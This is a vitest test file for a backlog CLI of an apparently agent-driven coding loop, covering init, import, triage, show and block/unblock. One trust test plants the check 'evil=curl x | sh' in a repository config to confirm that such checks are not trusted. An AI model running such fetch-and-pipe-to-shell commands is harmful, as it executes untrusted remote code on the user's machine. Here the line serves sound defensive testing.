/** C1, C2, C10, C14: the files around a backlog, before it runs. */
import { existsSync } from "node:fs";
import { basename, join } from "node:path";
import { describe, expect, test, vi } from "vitest";
import { areChecksAccepted } from "../../../src/cli/backlog/backlog-settings.ts";
import { backlogBlockCommand } from "../../../src/cli/backlog/block.ts";
import { backlogImportCommand } from "../../../src/cli/backlog/import-stories.ts";
import { backlogInitCommand } from "../../../src/cli/backlog/init-backlog.ts";
import { backlogShowCommand } from "../../../src/cli/backlog/show-story.ts";
import { backlogTriageCommand } from "../../../src/cli/backlog/triage.ts";
import { parseBacklogConfig } from "../../../src/schema/backlog-config.ts";
import { createTrustStore } from "../../../src/store/folder/trust.ts";
import { aPerson, setUp } from "../../support/backlog/backlog-project.ts";
import { hashTree } from "../../support/cli.ts";

const NODE = { "package.json": { scripts: { test: "vitest run", lint: "eslint ." } } };

describe("C1 C2 loop backlog init", () => {
  test("writes settings with what it found, an empty prd, progress and templates; no prompts", async () => {
    const { io, flags, root, read, names, stdout } = setUp(NODE);
    expect(await backlogInitCommand(flags, io())).toBe(0);
    expect(names(".loop")).toEqual([
      ".gitignore",
      "config.json",
      "origin",
      "prd.json",
      "progress.md",
      "templates",
    ]);
    expect(names(".loop/templates")).toEqual(["contract.md.template", "progress.md.template"]);
    const config = JSON.parse(read(".loop/config.json"));
    expect(config).toMatchObject({
      mode: "implement",
      maxIterations: 20,
      checks: ["tests=npm test", "lint=npm run lint"],
    });
    expect(parseBacklogConfig(config).kind).toBe("ok");
    expect(JSON.parse(read(".loop/prd.json"))).toEqual({
      project: basename(root),
      branchName: "",
      description: "",
      userStories: [],
    });
    expect(stdout.join("\n")).toContain("Stack: node (npm)");
    expect(stdout.join("\n")).toContain("tests=npm test");
  });

  test("a second one keeps stories, progress, settings and templates", async () => {
    const prd = '{"userStories":[{"id":"A","title":"a"}]}';
    const { io, flags, read, json, answer, write } = setUp(NODE);
    await backlogInitCommand({ ...flags, mode: "fix" }, io());
    write(".loop/prd.json", prd);
    write(".loop/progress.md", "mine");
    write(".loop/templates/contract.md.template", "mine too");
    const config = read(".loop/config.json");
    await backlogInitCommand(json, io(), aPerson());
    expect(
      [
        ".loop/prd.json",
        ".loop/progress.md",
        ".loop/templates/contract.md.template",
        ".loop/config.json",
      ].map(read),
    ).toEqual([prd, "mine", "mine too", config]);
    expect(answer()).toMatchObject({
      version: 1,
      mode: "fix",
      config: { written: false, added: [] },
      written: [],
    });
  });

  test("settings that are there stay as they are, with their indent; only what is missing is added", async () => {
    const { io, flags, read } = setUp({
      ...NODE,
      ".loop/config.json": '{\n    "maxTasks": 7,\n    "mode": "explore",\n    "checks": ["mine=make"]\n}\n',
    });
    await backlogInitCommand(flags, io(true), aPerson());
    const text = read(".loop/config.json");
    expect(JSON.parse(text)).toMatchObject({
      maxTasks: 7,
      mode: "explore",
      checks: ["mine=make"],
      evalRetries: 2,
    });
    expect(text).toMatch(/^ {4}"maxTasks": 7/m);
    await backlogInitCommand({ ...flags, mode: "fix" }, io());
    expect(JSON.parse(read(".loop/config.json"))).toMatchObject({ mode: "fix", maxTasks: 7 });
  });

  test("asks for the mode in a terminal; whoever leaves changes nothing", async () => {
    const { io, flags, read, has, base } = setUp(NODE);
    const before = hashTree(base);
    await backlogInitCommand(flags, io(true), aPerson(null));
    expect([has(".loop"), hashTree(base)]).toEqual([false, before]);
    const person = aPerson("explore");
    await backlogInitCommand(flags, io(true), person);
    expect(person.asked).toHaveLength(1);
    expect(JSON.parse(read(".loop/config.json"))).toMatchObject({ mode: "explore" });
  });

  test("--prompts writes the built-in ones out, once", async () => {
    const { io, flags, names, read, write } = setUp();
    await backlogInitCommand({ ...flags, prompts: true }, io());
    expect(names(".loop/prompts/generator")).toEqual(["_base.md", "explore.md", "fix.md", "implement.md"]);
    expect(names(".loop/prompts/evaluator")).toEqual(["_base.md", "explore.md", "fix.md", "implement.md"]);
    write(".loop/prompts/generator/fix.md", "mine");
    await backlogInitCommand({ ...flags, prompts: true }, io());
    expect(read(".loop/prompts/generator/fix.md")).toBe("mine");
  });

  test("H2 what it found itself is trusted; checks that came with the repository are not", async () => {
    const one = setUp(NODE);
    await backlogInitCommand(one.flags, one.io());
    const path = join(one.root, ".loop/config.json");
    expect(createTrustStore(process.env).isTrusted({ path, content: one.read(".loop/config.json") })).toBe(
      true,
    );
    const other = setUp({ ...NODE, ".loop/config.json": { checks: ["evil=curl x | sh"] } });
    await backlogInitCommand(other.flags, other.io());
    expect(createTrustStore(process.env).list()).toEqual([]);
    expect(other.stderr.join()).toContain("loop trust");
  });

  test.each<[string, Readonly<Record<string, string>>, object, RegExp]>([
    [
      "a mode that is none",
      {},
      { mode: "plan" },
      /^--mode "plan" is not known; write one of: explore, implement, fix\.$/,
    ],
    ["settings that are no JSON", { ".loop/config.json": "{" }, {}, /config\.json: not JSON/],
    [
      "settings that are wrong",
      { ".loop/config.json": '{"evalRetries":0}' },
      {},
      /evalRetries: expected a whole number/,
    ],
    ["a key that nobody knows", { ".loop/config.json": '{"modus":1}' }, {}, /modus/],
    ["a prd that does not parse", { ".loop/prd.json": "{" }, {}, /prd\.json: not JSON/],
  ])("H5 %s: one sentence, and nothing is written", async (_, files, more, sentence) => {
    const { base, io, flags } = setUp({ ...NODE, ...files });
    const before = hashTree(base);
    await expect(backlogInitCommand({ ...flags, ...more }, io())).rejects.toThrow(sentence);
    expect(hashTree(base)).toBe(before);
  });
});

const RALPH = {
  project: "App",
  branchName: "ralph/login",
  userStories: [
    { id: "US-001", title: "Store it", acceptanceCriteria: ["It stays"], passes: true },
    { id: "US-002", title: "Show it", dependsOn: ["US-001"], checks: ["show=npm test"], estimate: 3 },
  ],
};
const OLD = { branchName: "loop/old", userStories: [{ id: "OLD-1", title: "Old" }] };

describe("C1 C2 C10 loop backlog import", () => {
  test("shows what it takes, archives what is there after a yes, and writes", async () => {
    const { root, io, flags, read, names, stdout, stories } = setUp({
      "ralph.json": RALPH,
      ".loop/prd.json": OLD,
      ".loop/progress.md": "old",
    });
    const person = aPerson(false, true);
    await backlogImportCommand(join(root, "ralph.json"), flags, io(true), person);
    expect([names(".loop/archive"), stories()[0]?.id]).toEqual([[], "OLD-1"]);
    await backlogImportCommand(join(root, "ralph.json"), flags, io(true), person);
    expect(person.asked[1]).toBe("Write 2 stories and archive the existing 1 story?");
    const [archive = ""] = names(".loop/archive");
    expect(archive).toMatch(/^\d{4}-\d\d-\d\d-loop-old$/);
    expect(JSON.parse(read(`.loop/archive/${archive}/prd.json`))).toEqual(OLD);
    expect([read(`.loop/archive/${archive}/progress.md`), read(".loop/progress.md")]).toEqual([
      "old",
      expect.stringContaining("# Progress"),
    ]);
    expect(JSON.parse(read(".loop/prd.json"))).toMatchObject({
      project: "App",
      branchName: "ralph/login",
      userStories: [{ passes: true }, { estimate: 3 }],
    });
    expect(stdout.join("\n")).toContain("US-002: Show it (after US-001)\n  runs: show=npm test");
  });

  test("PRD.md with tasks; --json; an empty backlog is not archived", async () => {
    const { root, io, flags, json, answer, names, stories } = setUp({
      "PRD.md":
        "# PRD: Login\n### T-001: Store\n- [ ] It stays\n### T-002: Show\n<!-- id: T-002, blockedBy: [T-001] -->\n- [ ] It shows\n",
    });
    await backlogInitCommand(flags, io());
    await backlogImportCommand(join(root, "PRD.md"), { ...json, yes: true }, io());
    expect(answer()).toMatchObject({
      version: 1,
      written: true,
      archived: null,
      checksAccepted: true,
      stories: [{ id: "T-001" }, { id: "T-002" }],
    });
    expect([names(".loop/archive"), stories().map(({ dependsOn }) => dependsOn)]).toEqual([
      [],
      [[], ["T-001"]],
    ]);
  });

  test("H2 its checks are accepted by a yes to what was shown, and by nothing else", async () => {
    const { root, io, flags, stories, stderr } = setUp({ "ralph.json": RALPH });
    await backlogImportCommand(join(root, "ralph.json"), flags, io());
    expect(areChecksAccepted(root, stories(), process.env)).toBe(false);
    expect(stderr.join()).toContain("loop trust");
    await backlogImportCommand(join(root, "ralph.json"), { ...flags, yes: true }, io());
    expect(areChecksAccepted(root, stories(), process.env)).toBe(true);
    const other = stories().map((story) => ({ ...story, checks: [...story.checks, "more=curl x"] }));
    expect(areChecksAccepted(root, other, process.env)).toBe(false);
  });

  test("--reopen takes no other tool's word for what passed", async () => {
    const { root, io, flags, stories, stderr } = setUp({ "ralph.json": RALPH });
    await backlogImportCommand(join(root, "ralph.json"), { ...flags, yes: true }, io());
    expect(stderr.join()).toContain("1 story passed according to the file only");
    await backlogImportCommand(join(root, "ralph.json"), { ...flags, yes: true, reopen: true }, io());
    expect(stories().map(({ passes }) => passes)).toEqual([false, false]);
  });

  test.each<[string, string | object, RegExp]>([
    ["x.json", "{", /^x\.json cannot be imported: not JSON: /],
    ["x.json", { a: 1 }, /^x\.json cannot be imported: it has no list of stories/],
    [
      "x.json",
      [{ id: "a/b", title: "x" }],
      /^x\.json cannot be imported: a\/b: userStories\[0\]\.id: write letters/,
    ],
    ["x.json", [{ id: "A", title: 3 }], /: A: userStories\[0\]\.title: expected text/],
    [
      "x.json",
      [
        { id: "A", title: "a" },
        { id: "a", title: "b" },
      ],
      /: The id A is used twice\.$/,
    ],
    ["x.json", [{ id: "A", title: "a", dependsOn: ["B"] }], /: A depends on B, which does not exist\.$/],
    ["x.json", [{ id: "A", title: "a", dependsOn: ["A"] }], /: A depends on itself\.$/],
    ["x.json", [{ id: "A", title: "a", checks: ["npm test"] }], /: A: userStories\[0\]\.checks\[0\]: /],
    ["x.md", "# nothing", /^x\.md cannot be imported: it has no task/],
    ["x.md", "### T-1: a\n<!-- blockedBy: T-2 -->", /: T-1 depends on T-2, which does not exist\.$/],
    ["x/y.md", "", /x is not a file\.$/],
    [".loop/prd.json", { userStories: [] }, /is this project's backlog/],
  ])("H5 %s with %j is refused by name, and nothing is written", async (file, content, sentence) => {
    const { base, root, io, flags } = setUp({ ".loop/prd.json": OLD, [file]: content });
    const before = hashTree(base);
    const given = file === "x/y.md" ? "x" : file;
    const refused = backlogImportCommand(join(root, given), { ...flags, yes: true }, io());
    await expect(refused).rejects.toMatchObject({ code: "usage", message: expect.stringMatching(sentence) });
    expect(hashTree(base)).toBe(before);
  });

  test("H5 no file, no yes, and --dry-run write nothing", async () => {
    const { base, root, io, flags, json, answer } = setUp({ "r.json": RALPH, ".loop/prd.json": OLD });
    const before = hashTree(base);
    const file = join(root, "r.json");
    await expect(backlogImportCommand(join(root, "none.json"), flags, io())).rejects.toThrow(
      /^There is no file/,
    );
    await expect(backlogImportCommand(file, flags, io())).rejects.toThrow(
      /and the import would archive it\.$/,
    );
    expect(await backlogImportCommand(file, { ...json, dryRun: true }, io())).toBe(0);
    expect(answer()).toMatchObject({ written: false, stories: [{ id: "US-001" }, { id: "US-002" }] });
    expect(hashTree(base)).toBe(before);
  });
});

const BACKLOG = {
  project: "App",
  userStories: [
    { id: "US-001", title: "Store it", passes: true },
    {
      id: "US-002",
      title: "Show it",
      dependsOn: ["US-001"],
      blocked: true,
      rejections: 2,
      notes: "[REJECTED] no test\n[REJECTED] no test\n[BLOCKED]",
      checks: ["show=npm test"],
      holdouts: ["secret criterion"],
    },
    { id: "US-003", title: "Both", dependsOn: ["US-002"] },
    { id: "US-004", title: "Late", rejections: 1, notes: "[REJECTED] it is slow" },
  ],
};

describe("C14 loop backlog triage", () => {
  const AT = Date.UTC(2026, 10, 5, 12);
  test("writes what stands still, why, the evidence and what is to be decided", async () => {
    const { io, flags, read, stdout } = setUp({ ".loop/prd.json": BACKLOG });
    const attempts = [
      {
        story: "US-002",
        iteration: 3,
        outcome: "rejected",
        reason: "no test",
        at: AT,
        filesChanged: 0,
        failing: [{ name: "US-002: show", tail: "1 failed\n```\nescape" }],
      },
      { story: "US-001", iteration: 1, outcome: "passed", reason: null, at: AT, filesChanged: 2 },
    ] as const;
    expect(await backlogTriageCommand(flags, io(), attempts, AT)).toBe(0);
    const brief = read(".loop/triage/TRIAGE_BRIEF.md");
    for (const part of [
      "# Triage: App",
      "1 of 4 passed, 1 blocked, 2 open",
      "### US-002: Show it",
      "Rejections: 2",
      "- `show=npm test`",
      "- iteration 3, 2026-11-05T12:00:00.000Z, rejected, 0 files changed: no test",
      "> 1 failed",
      "The reason is the same each time",
      "No attempt changed a file",
      "US-003 wait for it",
      'loop backlog unblock US-002 "',
      "### US-004: Late",
      "- US-003 Both: waits for US-002",
    ])
      expect(brief).toContain(part);
    expect(brief).not.toContain("secret criterion");
    expect(stdout[0]).toMatch(/^1 blocked, 1 rejected and open, 1 waiting for them\. Wrote /);
  });

  test("a brief that a person wrote into is kept beside the new one; one that nobody touched is replaced", async () => {
    const { io, json, names, read, write, answer } = setUp({ ".loop/prd.json": BACKLOG });
    await backlogTriageCommand(json, io(), [], AT);
    await backlogTriageCommand(json, io(), [], AT + 1);
    expect(names(".loop/triage")).toEqual(["TRIAGE_BRIEF.md"]);
    const edited = `${read(".loop/triage/TRIAGE_BRIEF.md")}\nWe split it.\n`;
    write(".loop/triage/TRIAGE_BRIEF.md", edited);
    await backlogTriageCommand(json, io(), [], AT + 2);
    expect(answer()).toMatchObject({ kept: expect.stringMatching(/TRIAGE_BRIEF-2026.*\.md$/) });
    expect(names(".loop/triage")).toEqual(["TRIAGE_BRIEF-2026-11-05T12-00-00-002Z.md", "TRIAGE_BRIEF.md"]);
    expect(read(".loop/triage/TRIAGE_BRIEF-2026-11-05T12-00-00-002Z.md")).toBe(edited);
  });

  test("--json has the same, without holdouts; nothing to decide is said", async () => {
    const { io, json, flags, answer, stdout, write } = setUp({ ".loop/prd.json": BACKLOG });
    await backlogTriageCommand(json, io(), [], AT);
    const given = answer<{ blocked: object[] }>();
    expect(given).toMatchObject({
      version: 1,
      kept: null,
      blocked: [{ id: "US-002", reasons: ["no test", "no test"] }],
      rejected: [{ id: "US-004" }],
      waiting: [{ id: "US-003" }],
    });
    expect(JSON.stringify(given)).not.toContain("secret");
    write(".loop/prd.json", { userStories: [{ id: "A", title: "a" }] });
    await backlogTriageCommand(flags, io(), [], AT);
    expect(stdout[0]).toMatch(/^No story needs a decision\./);
  });
});

describe("C1 D8 show, block, unblock", () => {
  test("show: one story with what it waits for, or all of them", async () => {
    const { io, flags, json, stdout, answer } = setUp({ ".loop/prd.json": BACKLOG });
    await backlogShowCommand("us-003", flags, io());
    expect(stdout.splice(0)).toEqual([
      "US-003: Both\n  Status: open\n  Depends on: US-002\n  Waits for: US-002",
    ]);
    await backlogShowCommand("US-002", flags, io());
    expect(stdout[0]).toContain("Status: blocked, rejected 2 times");
    expect(stdout.splice(0)[0]).not.toContain("secret");
    await backlogShowCommand(undefined, flags, io());
    expect(stdout.splice(0).join("\n").split("\n")).toEqual([
      "US-001  passed   Store it",
      "US-002  blocked  Show it",
      "US-003  open     Both",
      "US-004  open     Late",
      "Next: US-004: Late",
    ]);
    await backlogShowCommand(undefined, json, io());
    expect(answer()).toMatchObject({ version: 1, next: "US-004", progress: { total: 4 } });
  });

  test("block with a reason, unblock with what to do differently", async () => {
    const { io, flags, json, stories, answer } = setUp({ ".loop/prd.json": BACKLOG });
    await backlogBlockCommand("block", "us-004", ["too", "slow"], flags, io());
    expect(stories()[3]).toMatchObject({ blocked: true, notes: "[REJECTED] it is slow\n[BLOCKED] too slow" });
    await backlogBlockCommand("unblock", "US-002", ["use", "the", "index"], { ...json }, io());
    expect(stories()[1]).toMatchObject({
      blocked: false,
      rejections: 0,
      notes: expect.stringMatching(/\[UNBLOCKED\] use the index$/),
    });
    expect(answer()).toMatchObject({
      version: 1,
      story: { id: "US-002", status: "open" },
      progress: { blocked: 1 },
    });
  });

  test.each<[string, (given: ReturnType<typeof setUp>) => Promise<number>, RegExp]>([
    ["show of none", ({ flags, io }) => backlogShowCommand("X", flags, io()), /^There is no story "X"\.$/],
    [
      "block of none",
      ({ flags, io }) => backlogBlockCommand("block", "X", [], flags, io()),
      /^There is no story "X"\.$/,
    ],
    [
      "block of one that passed",
      ({ flags, io }) => backlogBlockCommand("block", "US-001", [], flags, io()),
      /has passed/,
    ],
    [
      "unblock of one that is open",
      ({ flags, io }) => backlogBlockCommand("unblock", "US-003", ["x"], flags, io()),
      /^US-003 is not blocked\.$/,
    ],
  ])("H5 %s is one sentence, and nothing is written", async (_, run, sentence) => {
    const given = setUp({ ".loop/prd.json": BACKLOG });
    const before = hashTree(given.base);
    await expect(run(given)).rejects.toMatchObject({
      code: "usage",
      message: expect.stringMatching(sentence),
    });
    expect(hashTree(given.base)).toBe(before);
  });

  test("H5 without a backlog each says how to make one, and makes none", async () => {
    const { root, io, flags } = setUp();
    for (const run of [
      backlogShowCommand(undefined, flags, io()),
      backlogTriageCommand(flags, io()),
      backlogBlockCommand("block", "A", [], flags, io()),
    ])
      await expect(run).rejects.toThrow(/^There is no backlog here: /);
    expect(existsSync(join(root, ".loop"))).toBe(false);
  });

  test("C5 an agent inside of a turn cannot give itself a way out", async () => {
    const given = setUp({ ".loop/prd.json": BACKLOG, "r.json": RALPH });
    vi.stubEnv("LOOP_FIRE_ID", "x-1");
    for (const run of [
      backlogBlockCommand("block", "US-003", [], given.flags, given.io()),
      backlogBlockCommand("unblock", "US-002", [], given.flags, given.io()),
      backlogImportCommand(join(given.root, "r.json"), { ...given.flags, yes: true }, given.io()),
      backlogInitCommand(given.flags, given.io()),
    ])
      await expect(run).rejects.toThrow(/^Only a person can /);
  });
});
